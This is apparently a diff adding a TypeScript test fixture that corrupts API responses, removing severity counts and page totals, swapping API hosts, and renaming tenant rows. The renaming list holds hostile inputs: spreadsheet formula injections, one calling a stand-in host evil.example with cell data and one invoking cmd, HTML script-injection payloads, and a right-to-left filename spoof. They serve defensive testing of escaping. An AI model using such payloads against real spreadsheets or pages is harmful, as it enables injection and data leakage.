@@ -1,0 +1,66 @@
+import type { Fault } from './faults.ts'
+
+/** Names as an attacker, or an unlucky customer, would choose them. */
+export const hostileNames = [
+  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+  '<img src=x onerror="globalThis.pwned=1">',
+  '+1-555-0100',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd',
+  '\tleading tab',
+  '\rcarriage return',
+  'two\r\nlines, "quoted"',
+  'nul\u0000 bell\u0007 escape\u001b[31m',
+  '\u202egnp.exe right to left',
+  '</script><script>globalThis.pwned=1</script>',
+  `${'very '.repeat(60)}long`,
+  '   ',
+  '👩‍👩‍👧 & Töchter',
+] as const
+
+type Row = Record<string, unknown>
+
+function isRow(value: unknown): value is Row {
+  return typeof value === 'object' && value !== null && !Array.isArray(value)
+}
+
+function rows(value: unknown): Row[] {
+  return Array.isArray(value) ? value.filter(isRow) : []
+}
+
+/** The body of a good answer, as the faults that spoil its content leave it. */
+export function distort(body: unknown, faults: readonly Fault[]): unknown {
+  return faults.reduce((soFar, fault) => (isRow(soFar) ? distortOnce(soFar, fault) : soFar), body)
+}
+
+function distortOnce(body: Row, fault: Fault): Row {
+  const chosen = (row: Row) => fault.tenantId === undefined || row.id === fault.tenantId
+  switch (fault.kind) {
+    case 'noSeverities': {
+      const buckets = rows(body.resolutionDetectionCounts).map(({ countBySeverity: _, ...rest }) => rest)
+      return { ...body, resolutionDetectionCounts: buckets }
+    }
+    case 'noPageTotal': {
+      if (!isRow(body.pages)) return body
+      const { total: _, items: __, ...pages } = body.pages
+      return { ...body, pages }
+    }
+    case 'foreignApiHost':
+      return {
+        ...body,
+        items: rows(body.items).map(row => (chosen(row) ? { ...row, apiHost: fault.apiHost } : row)),
+      }
+    case 'hostileNames':
+      return {
+        ...body,
+        items: rows(body.items).map((row, index) => (chosen(row) ? renamed(row, index) : row)),
+      }
+    default:
+      return body
+  }
+}
+
+function renamed(row: Row, index: number): Row {
+  const name = hostileNames[index % hostileNames.length]
+  return { ...row, name, showAs: name }
+}
